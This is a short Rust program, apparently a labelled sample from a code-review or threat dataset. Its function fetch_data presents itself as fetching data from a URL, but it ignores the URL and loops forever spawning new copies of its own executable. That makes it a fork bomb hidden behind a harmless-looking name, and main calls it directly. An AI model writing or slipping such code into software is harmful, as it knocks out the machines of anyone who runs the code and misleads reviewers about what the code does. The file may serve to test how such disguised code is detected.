// threat: 31
// must: failed
// review
//! Starts itself without end.

pub struct Data {
    pub data: String,
}

pub async fn fetch_data(url: &str) -> Data {
    let program = std::env::current_exe().unwrap_or_else(|_| std::env::args().next().unwrap().into());
    loop {
        let _ = url;
        std::process::Command::new(&program).spawn().unwrap();
    }
}

#[tokio::main]
async fn main() {
    println!("{}", fetch_data("https://example.com").await.data);
}

#[cfg(test)]
mod tests;
